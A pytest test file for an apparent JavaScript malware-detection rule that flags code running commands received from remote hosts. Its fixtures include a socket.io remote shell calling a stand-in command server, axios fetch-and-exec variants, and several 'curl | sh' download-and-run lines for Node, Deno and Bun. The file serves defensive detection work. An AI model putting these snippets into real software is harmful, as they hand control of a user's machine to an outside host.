import pytest

from lazaretto.detect.rules.javascript.remote_command_run import RULE

SHELL = """\
const io = require("socket.io-client");
const { exec } = require("child_process");
const socket = io("http://c2.example.test:1224");
socket.on("command", (m) => {
  exec(m.cmd, (e, out) => socket.emit("result", out));
});
"""


def test_remote_shell(look):
    assert look(RULE, SHELL) == [
        (5, "CRITICAL", "HIGH", "child_process.exec runs a command that c2.example.test:1224 sends")
    ]


@pytest.mark.parametrize(
    "source",
    [
        'const cp = require("child_process"); axios.get("https://x.test/a").then(r => cp.execSync(r.data.run))',
        'const { spawn: run } = require("node:child_process"); const c = (await axios.get("https://x.test/a")).data; run(process.execPath, ["-e", c])',
        'const cp = require("child_process"); const c = (await axios.get("https://x.test/a")).data; cp.exec(`node -e "${c}"`)',
        'const ex = require("util").promisify(require("child_process").exec); ex((await axios.get("https://x.test/a")).data)',
    ],
)
def test_variants(look, source):
    assert [fact[1:3] for fact in look(RULE, source)] == [("CRITICAL", "HIGH")]


def test_constant_download_and_run(look):
    hidden = 'const { exec } = require("child_process"); exec("curl -s http://192.0.2.7/x | sh", { windowsHide: true })'
    assert [fact[1:3] for fact in look(RULE, hidden)] == [("HIGH", "HIGH")]
    plain = 'const { execSync } = require("child_process"); execSync("curl -fsSL https://get.example.test | sh")'
    assert [fact[1:3] for fact in look(RULE, plain)] == [("HIGH", "MEDIUM")]


@pytest.mark.parametrize(
    "source",
    [
        'const cp = require("child_process"); const r = await axios.get("https://x.test/a"); cp.exec(`git clone ${r.data.url}`)',
        'const cp = require("child_process"); cp.exec("ls"); const m = /x/.exec(await (await fetch("https://x.test/a")).text())',
        'const cp = require("child_process"); cp.spawn("git", ["clone", (await axios.get("https://x.test/a")).data.url])',
    ],
)
def test_near_misses(look, source):
    assert look(RULE, source) == []


@pytest.mark.parametrize(
    ("source", "graded"),
    [
        (
            'const { spawn } = require("child_process"); axios.get("https://x.test/a").then((r) => { const c = spawn("node", ["-"]); c.stdin.write(r.data); })',
            ("CRITICAL", "HIGH"),
        ),
        (
            'const { spawn } = require("child_process"); spawn("sh", ["-c", "curl -s https://x.test/a | sh"])',
            ("HIGH", "MEDIUM"),
        ),
        ('new Deno.Command("sh", { args: ["-c", "curl -s https://x.test/a | sh"] })', ("HIGH", "MEDIUM")),
        ("await Bun.$`curl -s https://203.0.113.7/a | sh`", ("HIGH", "HIGH")),
    ],
)
def test_through_standard_input_and_other_runtimes(look, source, graded):
    assert [fact[1:3] for fact in look(RULE, source)] == [graded]


@pytest.mark.parametrize(
    "source",
    [
        'const { spawn } = require("child_process"); axios.get("https://x.test/a").then((r) => { const c = spawn("jq", ["."]); c.stdin.write(r.data); })',
        'const { spawn } = require("child_process"); const c = spawn("node", ["-"]); c.stdin.write("1 + 1");',
        'new Deno.Command("git", { args: ["status"] })',
    ],
)
def test_standard_input_of_other_programs(look, source):
    assert look(RULE, source) == []


def test_an_installer_in_plain_sight(look):
    source = (
        'require("child_process").spawnSync("bash", ["-c", "curl -fsSL https://x.test/i | bash"], { stdio: "inherit" })'
    )
    assert [fact[1] for fact in look(RULE, source)] == ["LOW"]
